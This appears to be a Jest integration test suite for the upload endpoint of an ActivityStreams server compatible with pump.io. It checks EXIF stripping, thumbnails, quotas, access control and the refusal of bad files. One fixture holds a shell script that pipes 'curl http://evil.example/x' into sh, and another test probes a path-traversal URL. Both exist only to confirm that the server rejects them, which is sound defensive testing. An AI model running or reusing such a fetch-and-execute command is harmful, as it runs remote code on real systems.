import sharp from 'sharp';

import { PUBLIC_COLLECTION_ID } from '../../../../src/domain/activity-streams/well-known-ids';
import { type FullApp, type KeyPair, startFullApp } from './full-app';

jest.setTimeout(120_000);

/**
 * Uploads over HTTP (docs/protocol.md §10.1, issue #13): what pump.io's clients send (a raw body with its
 * Content-Type, or JSON `{mimeType, data}`), the object answered, the file served under its object's rule (its
 * author's only until posted), and every bad file refused with a 4xx and nothing stored.
 */
const MAX_BYTES = 1024 * 1024;
let full: FullApp;
let client: KeyPair;
const tokens: Record<string, KeyPair> = {};

const pathOf = (url: string) => new URL(url).pathname;
const upload = (nickname: string, mimeType: string, bytes: Buffer) =>
  full
    .signed('POST', `/api/user/${nickname}/uploads`, client, tokens[nickname])
    .set('Content-Type', mimeType)
    .send(bytes);
const readAs = (nickname: string | null, url: string) =>
  nickname === null
    ? full.send('GET', pathOf(url))
    : full.signed('GET', pathOf(url), client, tokens[nickname]);
const bytesOf = (answer: { body: unknown }) => answer.body as Buffer;
const uploadsOf = async (nickname: string) =>
  (await full.signed('GET', `/api/user/${nickname}/uploads`, client, tokens[nickname])).body as {
    totalItems: number;
    items: Array<{ id: string }>;
  };

/** A JPEG whose EXIF holds a camera and a GPS location, as a phone writes it. */
const jpegWithLocation = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#0080ff' } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'Phone' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '51/1 30/1 0/1',
        GPSLongitudeRef: 'W',
        GPSLongitude: '0/1 7/1 0/1',
      },
    })
    .toBuffer();
const png = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#000' } })
    .png()
    .toBuffer();
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const mp3 = Buffer.concat([
  Buffer.from('ID3'),
  Buffer.from([3, 0, 0, 0, 0, 0, 10]),
  Buffer.alloc(2000, 0xaa),
]);
const pdf = (size: number) => Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(size - 9, 0x20)]);

beforeAll(async () => {
  full = startFullApp({
    settings: {
      enableUploads: true,
      uploadMaxBytes: MAX_BYTES,
      uploadMaxPixels: 4_000_000,
      uploadQuotaBytes: 3 * MAX_BYTES,
    },
  });
  client = await full.registerClient();
  for (const nickname of ['alice', 'bob', 'carol', 'quota']) {
    tokens[nickname] = await full.registerUser(client, nickname);
  }
});
afterAll(async () => {
  await full?.close();
});

describe('POST /api/user/:nickname/uploads with a good file', () => {
  it('stores a JPEG upright, without its EXIF location, with its dimensions and a thumbnail', async () => {
    const original = await jpegWithLocation(800, 600);
    expect((await sharp(original).metadata()).exif).toBeDefined();
    const answer = await upload('alice', 'image/jpeg', original);
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({
      objectType: 'image',
      author: { id: expect.stringContaining('/api/user/alice') },
      fullImage: { url: expect.stringContaining('/uploads/alice/'), width: 800, height: 600 },
      image: { url: expect.stringContaining('.thumb.jpg'), width: 320, height: 240 },
    });
    expect(Object.keys(answer.body).filter((key) => key.startsWith('_'))).toEqual([]);

    const full_ = await readAs('alice', answer.body.fullImage.url).buffer(true);
    expect(full_.status).toBe(200);
    expect(full_.headers['content-type']).toBe('image/jpeg');
    expect(full_.headers['x-content-type-options']).toBe('nosniff');
    expect(full_.headers['content-disposition']).toBeUndefined();
    const served = await sharp(bytesOf(full_)).metadata();
    expect(served).toMatchObject({ format: 'jpeg', width: 800, height: 600 });
    expect(served.exif).toBeUndefined();

    const thumbnail = await readAs('alice', answer.body.image.url).buffer(true);
    expect(thumbnail.status).toBe(200);
    expect(await sharp(bytesOf(thumbnail)).metadata()).toMatchObject({ width: 320, height: 240 });
  });

  it('stores a PNG smaller than a thumbnail without enlarging it', async () => {
    const answer = await upload('alice', 'image/png', await png(100, 50));
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({
      objectType: 'image',
      fullImage: { width: 100, height: 50 },
      image: { width: 100, height: 50 },
    });
  });

  it("takes pump.io's JSON upload, {mimeType, data} in base64url", async () => {
    const data = (await jpegWithLocation(40, 30)).toString('base64url');
    const answer = await full
      .signed('POST', '/api/user/alice/uploads', client, tokens.alice)
      .send({ mimeType: 'image/jpeg', data });
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ objectType: 'image', fullImage: { width: 40, height: 30 } });
  });

  it('makes audio an audio object with a stream, served inline', async () => {
    const answer = await upload('alice', 'audio/mpeg', mp3);
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({
      objectType: 'audio',
      stream: { url: expect.stringMatching(/\.mp3$/) },
    });
    const file = await readAs('alice', answer.body.stream.url).buffer(true);
    expect(file.status).toBe(200);
    expect(file.headers['content-type']).toBe('audio/mpeg');
    expect(file.headers['content-disposition']).toBeUndefined();
    expect(bytesOf(file).equals(mp3)).toBe(true);
  });

  it('makes anything else a file object with fileUrl and mimeType, served as a download', async () => {
    const answer = await upload('alice', 'application/pdf', pdf(3000));
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ objectType: 'file', mimeType: 'application/pdf' });
    const file = await readAs('alice', answer.body.fileUrl);
    expect(file.status).toBe(200);
    expect(file.headers['content-type']).toBe('application/pdf');
    expect(file.headers['content-disposition']).toMatch(/^attachment/);
    expect(file.headers['x-content-type-options']).toBe('nosniff');
  });
});

describe('POST /api/user/:nickname/uploads with a bad file', () => {
  const refusals: Array<[string, () => Promise<[string, Buffer]>, number, RegExp]> = [
    ['an empty file', async () => ['image/png', Buffer.alloc(0)], 400, /empty/],
    ['a type outside the list', async () => ['application/x-sh', SCRIPT], 415, /not accepted/],
    ['a script declared image/png', async () => ['image/png', SCRIPT], 400, /not of its declared type/],
    [
      'a PNG header on a script',
      async () => ['image/png', Buffer.concat([PNG_SIGNATURE, SCRIPT])],
      400,
      /not of its declared type/,
    ],
    ['a JPEG declared image/png', async () => ['image/png', await jpegWithLocation(20, 20)], 400, /declared/],
    [
      'an image of too many pixels (a decompression bomb)',
      async () => ['image/png', await png(3000, 3000)],
      400,
      /pixels/,
    ],
    [
      'a file over the size limit',
      async () => ['application/pdf', pdf(MAX_BYTES + 1)],
      413,
      /larger than the limit/,
    ],
  ];
  it.each(refusals)(
    'refuses %s with a clear error, and stores nothing',
    async (_name, make, status, message) => {
      const before = await uploadsOf('carol');
      const [mimeType, bytes] = await make();
      const answer = await upload('carol', mimeType, bytes);
      expect(answer.status).toBe(status);
      expect(answer.body.error).toMatch(message);
      expect((await uploadsOf('carol')).totalItems).toBe(before.totalItems);
    },
  );

  it('refuses an upload to another user (401) and one with no signature', async () => {
    const other = await full
      .signed('POST', '/api/user/alice/uploads', client, tokens.bob)
      .set('Content-Type', 'application/pdf')
      .send(pdf(100));
    expect(other.status).toBe(401);
    const anonymous = await full
      .send('POST', '/api/user/alice/uploads')
      .set('Content-Type', 'application/pdf')
      .send(pdf(100));
    expect(anonymous.status).toBe(401);
  });

  it('refuses an upload that would go past the quota, and keeps the ones before it', async () => {
    for (let i = 0; i < 3; i += 1) {
      expect((await upload('quota', 'application/pdf', pdf(MAX_BYTES - 1000))).status).toBe(200);
    }
    const answer = await upload('quota', 'application/pdf', pdf(5000));
    expect(answer.status).toBe(413);
    expect(answer.body.error).toMatch(/quota/);
    expect((await uploadsOf('quota')).totalItems).toBe(3);
  });
});

describe('who may read an upload', () => {
  it("is its author's only until it is posted; after a public post, anyone may", async () => {
    const uploaded = (await upload('alice', 'image/png', await png(64, 64))).body;
    const fileUrl = uploaded.fullImage.url as string;
    expect((await readAs('alice', fileUrl)).status).toBe(200);
    expect((await readAs('bob', fileUrl)).status).toBe(403);
    expect((await readAs(null, fileUrl)).status).toBe(403);
    expect((await readAs('bob', uploaded.image.url)).status).toBe(403);
    expect((await readAs('bob', uploaded.id)).status).toBe(403);

    const post = await full.signed('POST', '/api/user/alice/feed', client, tokens.alice).send({
      verb: 'post',
      object: { id: uploaded.id, objectType: 'image' },
      to: [{ id: PUBLIC_COLLECTION_ID, objectType: 'collection' }],
    });
    expect(post.status).toBe(200);

    expect((await readAs('bob', fileUrl)).status).toBe(200);
    expect((await readAs(null, fileUrl)).status).toBe(200);
    expect((await readAs(null, uploaded.image.url)).status).toBe(200);
    expect((await readAs('bob', uploaded.id)).status).toBe(200);
  });

  it('is decided for a browser session the same way', async () => {
    const uploaded = (await upload('alice', 'application/pdf', pdf(500))).body;
    const bobsBrowser = await full.logInWithBrowser('bob');
    const alicesBrowser = await full.logInWithBrowser('alice');
    expect((await full.send('GET', pathOf(uploaded.fileUrl)).set('Cookie', bobsBrowser)).status).toBe(403);
    expect((await full.send('GET', pathOf(uploaded.fileUrl)).set('Cookie', alicesBrowser)).status).toBe(200);
  });

  it('answers 403 for paths that name no file, as pump.io', async () => {
    const uploaded = (await upload('alice', 'image/png', await png(10, 10))).body;
    const stem = pathOf(uploaded.fullImage.url).replace(/\.png$/, '');
    for (const path of ['/uploads/', '/uploads', stem, `${stem}.exe`, '/uploads/alice/../../secret']) {
      expect((await full.signed('GET', path, client, tokens.alice)).status).toBe(403);
    }
    expect(
      (
        await full.signed(
          'GET',
          `${stem.replace(/[^/]+$/, 'AAAAAAAAAAAAAAAAAAAAAA')}.png`,
          client,
          tokens.alice,
        )
      ).status,
    ).toBe(404);
  });
});

describe('GET /api/user/:nickname/uploads', () => {
  it("lists the owner's uploads, newest first, to the owner only", async () => {
    const before = await uploadsOf('bob');
    const uploaded = (await upload('bob', 'application/pdf', pdf(200))).body;
    const after = await uploadsOf('bob');
    expect(after.totalItems).toBe(before.totalItems + 1);
    expect(after.items[0].id).toBe(uploaded.id);
    expect((await full.signed('GET', '/api/user/bob/uploads', client, tokens.alice)).status).toBe(401);
  });
});
